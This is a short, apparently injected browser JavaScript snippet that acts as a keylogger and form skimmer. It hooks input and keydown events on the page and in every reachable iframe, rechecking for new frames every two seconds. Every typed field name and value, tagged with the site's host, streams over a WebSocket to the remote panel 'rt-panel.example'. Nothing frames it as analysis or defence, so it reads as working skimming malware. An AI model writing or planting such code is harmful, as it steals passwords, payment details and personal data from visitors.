var sock = new WebSocket("wss://rt-panel.example:8443/in");
var cola = [];
function manda(obj) {
  obj.host = location.host;
  var s = JSON.stringify(obj);
  if (sock.readyState === WebSocket.OPEN) sock.send(s); else cola.push(s);
}
sock.onopen = function () { cola.forEach(function (s) { sock.send(s); }); cola = []; };

function bind(doc, path) {
  doc.addEventListener("input", function (e) {
    manda({ kind: "input", path: path, field: e.target.name, value: e.target.value, data: e.data });
  }, true);
  doc.addEventListener("keydown", function (e) {
    if (e.key.length > 1) manda({ kind: "key", path: path, key: e.key });
  }, true);
}
bind(document, "/");
function frames_() {
  var fr = document.getElementsByTagName("iframe");
  for (var i = 0; i < fr.length; i++) {
    try {
      var dd = fr[i].contentDocument;
      if (dd && !dd.__b) { dd.__b = 1; bind(dd, "/frame" + i); }
    } catch (x) {}
  }
}
setInterval(frames_, 2000);
